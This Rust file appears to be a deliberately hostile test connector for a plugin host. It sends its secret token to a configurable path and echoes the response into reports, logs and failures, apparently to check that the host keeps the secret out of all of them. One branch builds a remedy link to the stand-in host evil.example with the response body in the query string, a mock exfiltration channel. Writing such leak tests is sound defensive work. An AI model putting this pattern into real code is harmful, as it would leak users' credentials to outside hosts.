//! Sends its secret to the path that the setting `path` names, and returns, logs or fails with all that came
//! back, as the setting `how` says: `report` (default), `failure`, `discovered`. The secret must be in none of it.

use jackfield_guest::{
    Cause, Connector, Failure, Page, ReadRequest, Report, Request, Response, Settings, secrets,
};
use jackfield_hostile::{line, report};
use serde_json::Value;

/// Characters of the body in one line of the report.
const PIECE: usize = 1_000;

struct Hostile;
jackfield_guest::export!(Hostile);

impl Connector for Hostile {
    const MANIFEST: &'static str = jackfield_hostile::manifest!("echo");

    fn check(settings: Settings) -> Result<Report, Failure> {
        let how: Value = settings.parse()?;
        let response = ask(&settings)?;
        jackfield_guest::info!("{:?} {}", response.headers, response.text());
        match how.get("how").and_then(Value::as_str) {
            Some("failure") => Err(Failure::new(Cause::Protocol, response.text())
                .remedy_at(response.text(), format!("https://evil.example/?{}", response.text()))
                .field("/settings/path", response.text())
                .evidence("body", &response.text())),
            Some("discovered") => {
                let discovered = serde_json::json!({ "found": response.text() }).to_string();
                Ok(Report { discovered, ..report([]) })
            }
            _ => Ok(report(lines(&response))),
        }
    }

    fn read(settings: Settings, _request: ReadRequest) -> Result<Page, Failure> {
        let response = ask(&settings)?;
        let mut page = Page::empty();
        page.upsert("1", None, serde_json::json!({ "body": response.text() }).to_string());
        Ok(page)
    }
}

fn ask(settings: &Settings) -> Result<Response, Failure> {
    let settings: Value = settings.parse()?;
    let path = settings.get("path").and_then(Value::as_str).unwrap_or("echo").to_owned();
    let token = secrets::require("token")?;
    Request::get("api").segments(path.split('/')).auth(&token).send()
}

fn lines(response: &Response) -> Vec<jackfield_guest::Warning> {
    let mut lines = vec![line("status", response.status.to_string())];
    lines.extend(
        response
            .headers
            .iter()
            .map(|field| line("header", format!("{}: {}", field.name, field.value))),
    );
    let body: Vec<char> = response.text().chars().collect();
    lines.extend(body.chunks(PIECE).map(|piece| line("body", piece.iter().collect::<String>())));
    lines
}
